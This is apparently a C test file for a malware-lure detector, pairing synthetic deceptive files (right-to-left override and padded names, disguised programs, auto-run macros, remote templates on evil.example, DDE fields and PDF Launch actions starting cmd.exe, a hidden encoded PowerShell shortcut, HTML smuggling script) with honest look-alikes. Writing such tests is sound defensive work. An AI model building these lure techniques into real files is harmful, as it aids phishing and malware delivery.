// Files that lie are caught, honest ones are left in peace; the table of both is
// docs/inspect-files.md.
#include "case.h"
#include "made_pe.h"

#include <archive.h>
#include <archive_entry.h>
#include <gsf/gsf.h>

#define S(kind) KS_INSPECT_##kind
#define NOTHING KS_INSPECT_COUNT
#define RLO     "\xe2\x80\xae"

static ks_span program(made_program p)
{
    made_file *f = made_new();
    made_pe(f, &p);
    return made_span(f);
}

static ks_span shortcut(const char *target, const char *arguments, const char *icon)
{
    made_file *f = made_new();
    made_lnk(f, target, arguments, icon);
    return made_span(f);
}

static ks_span zip(made_member a, made_member b)
{
    made_file *f = made_new();
    made_member members[] = { a, b };
    made_zip(f, members, b.name ? 2 : 1);
    return made_span(f);
}

static ks_span text(const char *words) { return ks_str_span(ks_str_of(words)); }

#define TEXT(words) text(words)
#define BYTES(words) \
    (ks_span) { (const u8 *)(words), sizeof(words) - 1 }

// A document of Word of one part, and one that refers to something outside.
#define DOCUMENT \
    (made_member) { "word/document.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL }
#define REFERS(name, type, target)                                               \
    (made_member)                                                                \
    {                                                                            \
        "word/_rels/" name ".xml.rels",                                          \
            TEXT("<?xml version=\"1.0\"?><Relationships><Relationship Id=\"1\" " \
                 "Type=\"http://x/" type "\" Target=\"" target                   \
                 "\" TargetMode=\"External\"/></Relationships>"),                \
            0, NULL                                                              \
    }

// A document with these words in its part.
static ks_span document(const char *words)
{
    return zip((made_member){ "word/document.xml", text(words), 0, NULL }, (made_member){ 0 });
}

// One whose settings refer to something outside by these words.
static ks_span relation(const char *words)
{
    return zip(DOCUMENT, (made_member){ "word/_rels/settings.xml.rels", text(words), 0, NULL });
}

#define XML "<?xml version=\"1.0\"?>"
#define EQUATION \
    "{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000004571756174696f6e2e33000000}}}"
#define SMUGGLER                                                                          \
    "<html><script>b=new Blob([atob('x')]);u=URL.createObjectURL(b);a.download='a.iso'</" \
    "script>"

// A document with such a part.
static ks_span part(const char *name, ks_span bytes)
{
    return zip(DOCUMENT, (made_member){ name, bytes, 0, NULL });
}

// A mail with the bytes attached in base64.
static ks_span mail(const char *name, ks_span bytes)
{
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    made_file *f = made_new();
    made_text(f, "From: a@partner.example\r\nSubject: a\r\nDate: Mon, 11 May 2026 03:09:40 "
                 "+0900\r\nMIME-Version: 1.0\r\n"
                 "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
                 "Content-Disposition: attachment; filename=\"");
    made_text(f, name);
    made_text(f, "\"\r\n\r\n");
    for (size_t i = 0; i < bytes.size; i += 3) {
        u32 left = (u32)(bytes.size - i), word = (u32)bytes.at[i] << 16;
        word |= left > 1 ? (u32)bytes.at[i + 1] << 8 : 0;
        word |= left > 2 ? bytes.at[i + 2] : 0;
        char four[4] = { digits[word >> 18], digits[word >> 12 & 63],
                         left > 1 ? digits[word >> 6 & 63] : '=',
                         left > 2 ? digits[word & 63] : '=' };
        made_bytes(f, four, 4);
        if (i % 57 == 54)
            made_text(f, "\r\n");
    }
    made_text(f, "\r\n");
    return made_span(f);
}

// One file in a container that libarchive writes.
static ks_span packed(const char *format, const char *name, ks_span bytes)
{
    made_file *f = made_new();
    struct archive *a = archive_write_new();
    struct archive_entry *e = archive_entry_new();
    bool is_set = archive_write_set_format_by_name(a, format) == ARCHIVE_OK &&
                  archive_write_set_bytes_per_block(a, 0) == ARCHIVE_OK &&
                  archive_write_open_memory(a, f->at, made_most, &f->size) == ARCHIVE_OK;
    archive_entry_set_pathname(e, name);
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_size(e, (la_int64_t)bytes.size);
    bool is_written = is_set && archive_write_header(a, e) == ARCHIVE_OK &&
                      archive_write_data(a, bytes.at, bytes.size) == (la_ssize_t)bytes.size &&
                      archive_write_close(a) == ARCHIVE_OK;
    case_must(is_written);
    archive_entry_free(e);
    archive_write_free(a);
    return made_span(f);
}

// A compound file with up to two streams; names with one '/' lie in a folder.
static ks_span compound(const char *name, ks_span bytes, const char *other)
{
    made_file *f = made_new();
    GsfOutput *memory = gsf_output_memory_new();
    GsfOutfile *file = gsf_outfile_msole_new(memory);
    const char *slash = strchr(name, '/');
    GsfOutput *folder = NULL, *parent = GSF_OUTPUT(file);
    if (slash) {
        char *front = g_strndup(name, (gsize)(slash - name));
        parent = folder = gsf_outfile_new_child(file, front, TRUE);
        g_free(front);
    }
    GsfOutput *stream = gsf_outfile_new_child(GSF_OUTFILE(parent), slash ? slash + 1 : name, FALSE);
    gsf_output_write(stream, bytes.size, bytes.at);
    gsf_output_close(stream);
    g_object_unref(stream);
    if (folder) {
        gsf_output_close(folder);
        g_object_unref(folder);
    }
    if (other) {
        stream = gsf_outfile_new_child(file, other, FALSE);
        gsf_output_write(stream, 4, (const guint8 *)"\0\0\0\0");
        gsf_output_close(stream);
        g_object_unref(stream);
    }
    gsf_output_close(GSF_OUTPUT(file));
    made_bytes(f, gsf_output_memory_get_bytes(GSF_OUTPUT_MEMORY(memory)),
               (size_t)gsf_output_size(memory));
    g_object_unref(file);
    g_object_unref(memory);
    return made_span(f);
}

// A module of VBA as a compressed container of literals.
static ks_span module(const char *source)
{
    made_file *data = made_new(), *f = made_new();
    size_t size = strlen(source);
    for (size_t i = 0; i < size; i += 8) {
        made_number(data, 0, 1);
        made_bytes(data, source + i, size - i < 8 ? size - i : 8);
    }
    made_text(f, "performance cache");
    made_number(f, 1, 1);
    made_number(f, 0xb000u | (u32)(data->size - 1), 2);
    made_bytes(f, data->at, data->size);
    return made_span(f);
}

static ks_span package(const char *name, ks_span bytes)
{
    made_file *f = made_new();
    made_number(f, 0, 4);
    made_number(f, 2, 2);
    made_text(f, name);
    made_number(f, 0, 1);
    made_text(f, name);
    made_number(f, 0, 1);
    made_number(f, 0x30000, 4);
    made_number(f, 2, 4);
    made_text(f, "a");
    made_number(f, 0, 1);
    made_number(f, (u32)bytes.size, 4);
    made_bytes(f, bytes.at, bytes.size);
    return made_span(f);
}

static ks_span joined(ks_span a, ks_span b)
{
    made_file *f = made_new();
    made_bytes(f, a.at, a.size);
    made_bytes(f, b.at, b.size);
    return made_span(f);
}

#define PNG \
    "\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\0\0\0\0\0\0\0\0\0\0\0\0IEND\0\0\0\0"
static const ks_span png = { (const u8 *)PNG, sizeof PNG - 1 };

static void lying(case_run *r)
{
    made_program bare = { 0 }, sheet = { .icon = MADE_SHEET };
    ks_span exe = program(bare), script = TEXT("WScript.Echo(new ActiveXObject('x'))");
    const u8 sheet_record[] = { 0x09, 8, 8, 0, 0, 6, 5, 0, 0, 0, 0, 0,
                                0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 1, 0 };
    char padded[400];
    snprintf(padded, sizeof padded, "/c%*s start a", 300, "");
    // clang-format off
    const inspect_case rows[] = {
        { "a name turned by an override", S(NAME_OVERRIDE), "cod" RLO "fdp.scr", .bytes = exe },
        { "a name turned by an isolate within one that turns nothing", S(NAME_OVERRIDE), "\xe2\x81\xa8" "cod\xe2\x81\xa7" "fdp\xe2\x81\xa9\xe2\x81\xa9.scr", .bytes = exe },
        { "an isolate that is closed as an embedding", S(NAME_OVERRIDE), "\xe2\x81\xa8" "a\xe2\x80\xac.exe", .bytes = exe },
        { "a Hebrew word in an embedding", S(NAME_OVERRIDE), "\xe2\x80\xaa" "a\xd7\x90.pdf\xe2\x80\xac.exe", .bytes = exe },
        { "an ending pushed out of sight by blanks", S(NAME_PADDED), "minutes.docx                 .exe", .bytes = exe },
        { "the same with ideographic spaces", S(NAME_PADDED), "minutes.docx\xe3\x80\x80\xe3\x80\x80\xe3\x80\x80\xe3\x80\x80.exe", .bytes = exe },
        { "the same with underscores", S(NAME_PADDED), "minutes.docx________________________.exe", .bytes = exe },
        { "the same with blanks of Braille", S(NAME_PADDED), "minutes.docx\xe2\xa0\x80\xe2\xa0\x80\xe2\xa0\x80\xe2\xa0\x80.exe", .bytes = exe },
        { "a document's ending before the true one", S(NAME_DOUBLE), "invoice.pdf.exe", .bytes = exe },
        { "a shortcut named as a document, in an archive", S(NAME_DOUBLE), "a.zip", .bytes = zip((made_member){ "invoice.pdf.lnk", shortcut("..\\a.exe", "", ""), 0, NULL }, (made_member){ 0 }) },
        { "an internet shortcut named as a document, by mail", S(NAME_DOUBLE), "m.eml", .bytes = mail("invoice.pdf.url", TEXT("[InternetShortcut]\r\nURL=https://evil.example/\r\n")) },
        { "a dot that is none", S(NAME_DOTS), "invoice\xef\xbc\x8epdf.exe", .bytes = exe },
        { "an invisible character in the name", S(NAME_UNSEEN), "invoice\xe2\x80\x8b.pdf", .bytes = TEXT("%PDF-1.7") },
        { "an ending that is a class of Windows", S(NAME_CLASS), "a.{3050f4d8-98B5-11CF-BB82-00AA00BDCE0B}", .bytes = TEXT("x") },
        { "a program named as a document", S(PROGRAM_HIDDEN), "minutes.pdf", .bytes = exe },
        { "a program named as a picture, by mail", S(PROGRAM_HIDDEN), "m.eml", .bytes = mail("photo.jpg", exe) },
        { "a library without any ending, by mail", S(PROGRAM_HIDDEN), "m.eml", .bytes = mail("data", program((made_program){ .is_library = true })) },
        { "a shortcut named as text", S(PROGRAM_HIDDEN), "notes.txt", .bytes = shortcut("a.exe", "", "") },
        { "an archive named as a document", S(CONTENT_OTHER), "minutes.pdf", .bytes = zip((made_member){ "a.txt", TEXT("x"), 0, NULL }, (made_member){ 0 }) },
        { "a script named as text, by mail", S(SCRIPT_CONTENT), "m.eml", .bytes = mail("notes.txt", script) },
        { "a program with a document's icon and name", S(PROGRAM_ICON), "minutes.docx", .bytes = program(sheet) },
        { "a program with a document's icon, by mail", S(PROGRAM_ICON), "m.eml", .bytes = mail("minutes.exe", program(sheet)) },
        { "PowerShell under another name", S(PROGRAM_RENAMED), "svchost.exe", .bytes = program((made_program){ .original = "PowerShell.EXE" }) },
        { "a signature that is none", S(PROGRAM_SIGNATURE_BROKEN), "a.exe", .bytes = program((made_program){ .signature_size = 64, .is_broken = true }) },
        { "a shortcut that hands commands to PowerShell", S(SHORTCUT_INTERPRETER), "m.eml", .bytes = mail("invoice.pdf.lnk", shortcut("..\\System32\\powershell.exe", "-w hidden -enc AAAA", "")) },
        { "a shortcut whose arguments are pushed out of sight", S(SHORTCUT_PADDED), "a.lnk", .bytes = shortcut("..\\cmd.exe", padded, "") },
        { "a shortcut with arguments longer than Windows shows", S(SHORTCUT_LONG), "a.lnk", .bytes = shortcut("..\\cmd.exe", padded, "") },
        { "a shortcut to a program with a document's icon", S(SHORTCUT_ICON), "a.lnk", .bytes = shortcut("..\\mshta.exe", "x", "C:\\x\\AcroRd32.exe") },
        { "a program in an archive, by mail", S(NAME_PROGRAM), "m.eml", .bytes = mail("a.zip", zip((made_member){ "setup.exe", exe, 0, NULL }, (made_member){ 0 })) },
        { "a program in an encrypted archive, by mail", S(NAME_PROGRAM), "m.eml", .bytes = mail("a.zip", zip((made_member){ "setup.exe", exe, 1, NULL }, (made_member){ 0 })) },
        { "a disc image, by mail", S(CONTAINER_MARK), "m.eml", .bytes = mail("a.iso", packed("iso9660", "a.txt", TEXT("x"))) },
        { "a shortcut in a disc image, by mail", S(NAME_SHORTCUT), "m.eml", .bytes = mail("a.iso", packed("iso9660", "a.lnk", shortcut("a.exe", "", ""))) },
        { "a program in a 7-Zip archive, named as a document", S(PROGRAM_HIDDEN), "a.7z", .bytes = packed("7zip", "minutes.pdf", exe) },
        { "a member that leaves the folder", S(ARCHIVE_OUTSIDE), "a.zip", .bytes = zip((made_member){ "../../a.txt", TEXT("x"), 0, NULL }, (made_member){ 0 }) },
        { "an archive whose list says otherwise than its members", S(ARCHIVE_TWO_TALES), "a.zip", .bytes = zip((made_member){ "a.exe", exe, 0, "a.txt" }, (made_member){ 0 }) },
        { "macros", S(MACROS), "a.doc", .bytes = compound("VBA/dir", TEXT("x"), "WordDocument") },
        { "macros that run by themselves", S(MACROS_AUTO), "a.doc", .bytes = compound("VBA/ThisDocument", module("Attribut" "e VB_Name = \"T\"\r\nSub AutoOpen()\r\n"), "_VBA_PROJECT") },
        { "macros in a document of the new form", S(MACROS), "a.docm", .bytes = zip(DOCUMENT,
          (made_member){ "word/vbaProject.bin", compound("VBA/dir", TEXT("x"), NULL), 0, NULL }) },
        { "macros in a document without macros", S(CONTENT_OTHER), "a.docx", .bytes = zip(DOCUMENT,
          (made_member){ "word/vbaProject.bin", compound("VBA/dir", TEXT("x"), NULL), 0, NULL }) },
        { "a sheet of Excel 4 macros", S(MACRO_SHEET), "a.xls", .bytes = compound("Workbook", (ks_span){ sheet_record, sizeof sheet_record }, NULL) },
        { "a program embedded in a document", S(OBJECT_PACKAGE), "a.doc", .bytes = compound("ObjectPool/\1Ole10Native", package("a.exe", exe), "WordDocument") },
        { "a template fetched from elsewhere", S(TEMPLATE_REMOTE), "a.docx", .bytes = zip(DOCUMENT,
          REFERS("settings", "attachedTemplate", "http://evil.example/a.dotm")) },
        { "a field that starts a program", S(FIELD_DDE), "a.docx", .bytes =
          zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w:instrText>DDEAUTO c:\\\\cmd.exe \"/k\"</w:instrText>"), 0, NULL }, (made_member){ 0 }) },
        { "a template fetched from elsewhere, in quotes of the other kind", S(TEMPLATE_REMOTE), "a.docx", .bytes = relation(
          XML "<Relationships><Relationship Id='1' Type = 'http://x/attachedTemplate' Target='http://evil.example/a.dotm' TargetMode='External'/></Relationships>") },
        { "a template fetched from elsewhere, with a prefix", S(TEMPLATE_REMOTE), "a.docx", .bytes = relation(
          XML "<p:Relationships><p:Relationship Id=\"a>b\" x:Target=\"a\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></p:Relationships>") },
        { "a template fetched from elsewhere, in character references", S(TEMPLATE_REMOTE), "a.docx", .bytes = relation(
          XML "<Relationships><Relationship\nTargetMode=\"&#69;xternal\" Type=\"http://x/attached&#x54;emplate\" Target=\"&#104;ttp://evil.example/?a&amp;b\"/></Relationships>") },
        { "a field that starts a program, in several runs", S(FIELD_DDE), "a.docx", .bytes = document(
          XML "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:instrText> DD</w:instrText><w:r/><w:instrText xml:space='preserve'>E<!-- -->AUTO c:\\cmd.exe</w:instrText>"
          "<w:fldChar w:fldCharType='separate'/><w:t>1</w:t><w:fldChar w:fldCharType=\"end\"/>") },
        { "a field that starts a program, within another", S(FIELD_DDE), "a.docx", .bytes = document(
          XML "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>IF </w:instrText><w:fldChar w:fldCharType=\"begin\"/><w:instrText>D<![CDATA[D]]>&#69; cmd</w:instrText>"
          "<w:fldChar w:fldCharType=\"end\"/><w:instrText>= 1</w:instrText><w:fldChar w:fldCharType=\"end\"/>") },
        { "a simple field that starts a program", S(FIELD_DDE), "a.docx", .bytes = document(XML "<w:fldSimple w:dirty='true' w:instr='&#68;DE &quot;cmd&quot;'/>") },
        { "an RTF object of the old equation editor as a chunk of a document", S(OBJECT_EQUATION), "a.docx", .bytes = part("word/afchunk.rtf", TEXT(EQUATION)) },
        { "the same under the name of a picture", S(OBJECT_EQUATION), "a.docx", .bytes = part("word/media/image1.png", TEXT(EQUATION)) },
        { "the same in a document within a document", S(OBJECT_EQUATION), "a.docx", .bytes = part("word/afchunk.docx", part("word/afchunk.rtf", TEXT(EQUATION))) },
        { "a program among the parts of a document", S(OBJECT_PACKAGE), "a.docx", .bytes = part("word/embeddings/a.exe", exe) },
        { "a program under the name of a document's picture", S(PROGRAM_HIDDEN), "a.docx", .bytes = part("word/media/image1.png", exe) },
        { "a program in an archive among the parts of a document, by mail", S(NAME_PROGRAM), "m.eml", .bytes = mail("a.docx",
          part("word/embeddings/a.zip", zip((made_member){ "a.exe", exe, 0, NULL }, (made_member){ 0 }))) },
        { "a page that builds a file, as a chunk of a document", S(SMUGGLING), "a.docx", .bytes = part("word/afchunk.htm", TEXT(SMUGGLER)) },
        { "the same in the form of a mail", S(SMUGGLING), "a.docx", .bytes = part("word/afchunk.mht", TEXT("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" SMUGGLER)) },
        { "a field that starts a program, in a part that looks like a page", S(FIELD_DDE), "a.docx", .bytes = document(
          XML "<!--<html>--><w:fldSimple w:instr='DDE cmd'/>") },
        { "an RTF object of the old equation editor", S(OBJECT_EQUATION), "a.doc", .bytes = TEXT(EQUATION) },
        { "a PDF that starts a program", S(PDF_LAUNCH), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj") },
        { "a PDF that starts a program, by a name with escapes", S(PDF_LAUNCH), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</Type/Action/S/L#61unc#68/F(cmd.exe)>>endobj") },
        { "a OneNote page with a script embedded", S(NOTE_FILE), "a.one", .bytes = joined((ks_span){ (const u8 *)"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16 },
          joined((ks_span){ (const u8 *)"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac\x24\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 36 }, script)) },
        { "a program behind a picture", S(TAIL), "a.png", .bytes = joined(png, exe) },
        { "a page that builds a file", S(SMUGGLING), "a.html", .bytes = TEXT(SMUGGLER) },
        { "a mail with a NUL in its text", S(NAME_HOLDS_ADDRESS), "n.eml", .bytes = BYTES("From: \"boss@corp.example\" <x@evil.example>\nTo: b\nSubject: s\n\nhi\0\n") },
        { "a mail without an ending, with control bytes in a field", S(NAME_HOLDS_ADDRESS), "n", .bytes = BYTES("Subject: \x01\x0b\nFrom: \"boss@corp.example\" <x@evil.example>\nTo: b\n\nhi\n") },
        { "an internet shortcut to a file server", S(URL_TARGET), "a.url", .bytes = TEXT("[InternetShortcut]\r\nURL=file://203.0.113.9/a.exe\r\n") },
    };
    // clang-format on
    for (size_t i = 0; i < countof(rows); i++)
        case_try(r, &rows[i], false);
}

static void honest(case_run *r)
{
    ks_span exe =
        program((made_program){ .icon = MADE_GEAR, .original = "setup.exe", .signature_size = 64 });
    // clang-format off
    const inspect_case rows[] = {
        { "a program that says so", S(PROGRAM_IS), "setup.exe", .bytes = exe },
        { "a program with a round icon", S(PROGRAM_SIGNED), "setup.exe", .bytes = exe },
        { "an editor with a sheet as its icon", S(PROGRAM_ICON), "editor.exe", .bytes = program((made_program){ .icon = MADE_SHEET }) },
        { "an installer with another inner name", S(PROGRAM_OTHER_NAME), "setup-1.2.exe", .bytes = exe },
        { "a library", S(PROGRAM_IS), "a.dll", .bytes = program((made_program){ .is_library = true }) },
        { "a library with an ending of its own", NOTHING, "plugin.fmt", .bytes = program((made_program){ .is_library = true }) },
        { "a shortcut to a program", S(SHORTCUT_IS), "a.lnk", .bytes = shortcut("..\\app.exe", "--open", "") },
        { "a shortcut that Windows writes for an opened document", S(SHORTCUT_IS), "report.xlsx.lnk", .bytes = shortcut("..\\Documents\\report.xlsx", "", "") },
        { "a name in an isolate that turns nothing", S(NAME_MARK), "\xe2\x81\xa8" "Bob\xe2\x81\xa9 photo.txt", .bytes = TEXT("text") },
        { "a number in an embedding that turns nothing", S(NAME_MARK), "\xe2\x80\xaa+81 3\xe2\x80\xac.txt", .bytes = TEXT("text") },
        { "a form with a line to write a name on", S(NAME_PADDED), "name_________________________.txt", .bytes = TEXT("text") },
        { "a program with a ruler of hyphens in its name", S(PROGRAM_IS), "setup----------2.exe", .bytes = exe },
        { "a version in a name", NOTHING, "report.v1.2.txt", .bytes = TEXT("text") },
        { "a Japanese name with spaces", NOTHING, "\xe8\xad\xb0\xe4\xba\x8b\xe9\x8c\xb2\xe3\x80\x80\xe7\xac\xac 1 \xe5\x9b\x9e.txt", .bytes = TEXT("text") },
        { "an Arabic name with marks of direction", S(NAME_MARK), "\xe2\x80\x8f\xd9\x85\xd9\x84\xd9\x81.txt", .bytes = TEXT("text") },
        { "an archive that is what it says", NOTHING, "a.tar", .bytes = packed("ustar", "a.txt", TEXT("x")) },
        { "a page of a program that exports tables as workbooks", S(CONTENT_KIN), "table.xls", .bytes = TEXT("<html><table></table></html>") },
        { "an RTF document named as one of Word", S(CONTENT_KIN), "a.doc", .bytes = TEXT("{\\rtf1 text}") },
        { "a JPEG picture named as PNG", S(CONTENT_KIN), "a.png", .bytes = TEXT("\xff\xd8\xff\xe0 picture \xff\xd9") },
        { "a workbook without macros", NOTHING, "a.xlsx", .bytes = zip((made_member){ "xl/workbook.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL }, (made_member){ 0 }) },
        { "a document with a picture", NOTHING, "a.docx", .bytes = part("word/media/image1.png", png) },
        { "a document with a drawing", NOTHING, "a.docx", .bytes = part("word/media/image1.svg", TEXT("<svg xmlns=\"http://www.w3.org/2000/svg\"/>")) },
        { "a document with the workbook of a chart", NOTHING, "a.docx", .bytes = part("word/embeddings/Microsoft_Excel_Sheet1.xlsx",
          zip((made_member){ "xl/workbook.xml", TEXT(XML "<w/>"), 0, NULL }, (made_member){ 0 })) },
        { "a document with an object of another program, by mail", S(ATTACHED), "m.eml", .bytes = mail("a.docx", part("word/embeddings/oleObject1.bin", compound("CONTENTS", TEXT("x"), NULL))) },
        { "a document with a chunk of RTF", NOTHING, "a.docx", .bytes = part("word/afchunk.rtf", TEXT("{\\rtf1 text}")) },
        { "a document with a page in the form of a mail", NOTHING, "a.docx", .bytes = part("word/afchunk.mht", TEXT("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html>text</html>")) },
        { "a workbook with a mail and the mark of a PDF in its cells", NOTHING, "a.xlsx", .bytes = zip((made_member){ "xl/workbook.xml", TEXT(XML "<w/>"), 0, NULL },
          (made_member){ "xl/sharedStrings.xml", TEXT(XML "<t>\nFrom: a\nTo: b\nSubject: c\nDate: d</t><t>%PDF-1.7</t>"), 0, NULL }) },
        { "a document with a link for people", NOTHING, "a.docx", .bytes = zip(DOCUMENT,
          REFERS("document", "hyperlink", "https://partner.example/")) },
        { "a document with the template of its own PC", NOTHING, "a.docx", .bytes = zip(DOCUMENT,
          REFERS("settings", "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")) },
        { "a document about fields that start programs", S(IS), "a.docx", .bytes = document(
          XML "<w:t>type DDEAUTO c:\\cmd.exe or DDE \"x\"</w:t><!-- <w:instrText>DDEAUTO x</w:instrText> --><w:fldChar w:fldCharType=\"begin\"/>"
          "<w:instrText> REF DDE_LINK1 </w:instrText><w:fldChar w:fldCharType=\"end\"/><w:t>DDEAUTO x</w:t>") },
        { "a PDF with a form's script", S(PDF_SCRIPT), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</S/JavaScript/JS(x)>>endobj") },
        { "a PDF with a form's script, by a name with escapes", S(PDF_SCRIPT), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</S/#4aava#53cript/JS(x)>>endobj") },
        { "a PDF with names that only begin so", S(IS), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</LaunchURL/x/L#6/y/Launc/#/z#") },
        { "an electronic invoice with its data embedded", S(PDF_FILES), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</Type/EmbeddedFile>>endobj") },
        { "an encrypted archive with a document, by mail", S(ARCHIVE_ENCRYPTED), "m.eml", .bytes = mail("minutes.zip", zip((made_member){ "minutes.docx", TEXT("x"), 1, NULL }, (made_member){ 0 })) },
        { "a picture, by mail", S(ATTACHED), "m.eml", .bytes = mail("photo.png", png) },
        { "a disc image on a disk", S(CONTAINER_MARK), "a.iso", .bytes = packed("iso9660", "a.txt", TEXT("x")) },
        { "a web page that was saved", S(PAGE_SCRIPT), "a.html", .bytes = TEXT("<!doctype html><html><script src=a.js></script><a href='https://a.example/'>a</a></html>") },
        { "an internet shortcut to a page", NOTHING, "a.url", .bytes = TEXT("[InternetShortcut]\r\nURL=https://partner.example/\r\n") },
        { "binary data with the names of fields in it", NOTHING, "a.bin", .bytes = BYTES("\x01\0\x02: x\nFrom: a\nTo: b\nSubject: c\n\n") },
        { "a batch file of an administrator", S(IS), "logon.bat", .bytes = TEXT("@echo off\r\nnet use z: \\\\fs\\share\r\n") },
        { "notes of an administrator about PowerShell", NOTHING, "notes.md", .bytes = TEXT("use Invoke-WebRequest, New-Object and IEX with care; $env:TEMP") },
    };
    // clang-format on
    for (size_t i = 0; i < countof(rows); i++)
        case_try(r, &rows[i], true);
}

int main(void)
{
    case_run r = case_open();
    KS_PUT(&r.table, "| lying | what is said | gravest | |\n|---|---|---|---|\n");
    lying(&r);
    KS_PUT(&r.table, "\n| honest, but odd | what is said | gravest | |\n|---|---|---|---|\n");
    honest(&r);
    remark("lying: %zu caught, %zu missed; honest: %zu quiet, %zu false alarms", r.caught, r.missed,
           r.quiet, r.alarms);
    check("no lying file is missed", r.missed == 0);
    check("no honest file raises an alarm", r.alarms == 0);
    check_golden("the table is docs/inspect-files.md", "../../docs/inspect-files.md", r.table.start,
                 ks_out_size(&r.table));
    case_close(&r);
    made_free();
    return checked();
}
